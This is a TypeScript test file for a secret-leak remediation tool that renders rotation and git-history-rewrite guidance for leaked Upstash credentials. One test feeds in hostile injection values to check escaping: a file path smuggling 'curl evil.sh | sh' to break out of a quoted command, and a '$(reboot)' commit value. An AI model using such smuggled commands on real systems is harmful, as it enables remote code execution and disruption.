import type { Finding } from '../../src/core/types.js';
import { renderGuidance, ROTATE_FIRST } from '../../src/report/index.js';
import { scanFindings } from './fixtures.js';

const [qstash, redis, currentKey, search] = scanFindings() as [Finding, Finding, Finding, Finding];

describe('renderGuidance', () => {
  test('always leads with "rotate first", then per-family steps, then the rewrite recipe', () => {
    const out = renderGuidance([redis]);
    expect(out.split('\n')[0]).toBe(`**${ROTATE_FIRST}**`);
    expect(out).toContain('POST https://api.upstash.com/v2/redis/reset-password/{id}');
    expect(out).toContain('Vercel or Fly.io');
    expect(out).toContain(
      'git filter-repo --sensitive-data-removal --replace-text ../replacements.txt',
    );
    expect(out).toContain('read -rs LEAKED');
    expect(out).toContain('git push --force --mirror origin');
    expect(out).toContain('GitHub Support');
    expect(out).toContain('re-clone');
    expect(out.indexOf('Reset the database password')).toBeLessThan(out.indexOf('filter-repo'));
  });

  test('QStash: token leak resets the token and rolls keys twice, with the redeploy warning', () => {
    const out = renderGuidance([qstash], { historyRewrite: false });
    expect(out).toContain('Reset token');
    expect(out).toContain('**twice**');
    expect(out).toContain('redeploy your receivers before rolling again');
    expect(out).not.toContain('filter-repo');
  });

  test('signing keys roll once for one key, twice when current and next both leaked', () => {
    expect(renderGuidance([currentKey], { historyRewrite: false })).toContain(
      'Roll the signing keys once',
    );
    const next = { ...currentKey, fingerprint: 'x', details: { key: 'next' } };
    expect(renderGuidance([currentKey, next], { historyRewrite: false })).toContain('**twice**');
  });

  test('management key, Kafka, Vector/Search each get their own remedy', () => {
    const mgmt = { ...redis, type: 'upstash-management-key' as const };
    const kafka = { ...redis, type: 'upstash-kafka-credentials' as const };
    const out = renderGuidance([search, mgmt, kafka], { historyRewrite: false });
    expect(out).toContain('Management API** → delete');
    expect(out).toContain('discontinued on 2025-03-11');
    expect(out).toContain('search/{id}/reset-password');
    expect(out).toContain('meant to be public');
    expect(out.indexOf('Management API key')).toBeLessThan(out.indexOf('Vector / Search'));
  });

  test('a hostile path cannot break out of the quoted command or the code fence', () => {
    const evil = {
      ...redis,
      occurrences: [
        { path: "x'; curl evil.sh | sh; echo '```\n", line: 3, commit: 'a'.repeat(40) },
      ],
    };
    const out = renderGuidance([evil]);
    expect(out).toContain(
      `git show 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa:x'\\''; curl evil.sh | sh; echo '\\''\`\`\`\\n' | sed -n '3p'`,
    );
    expect(out).toContain('````sh');
    const notHex = { ...redis, occurrences: [{ path: 'a.env', line: 1, commit: '$(reboot)' }] };
    expect(renderGuidance([notHex])).not.toContain('$(reboot)');
  });

  test('no findings, no guidance', () => {
    expect(renderGuidance([])).toBe('');
  });
});
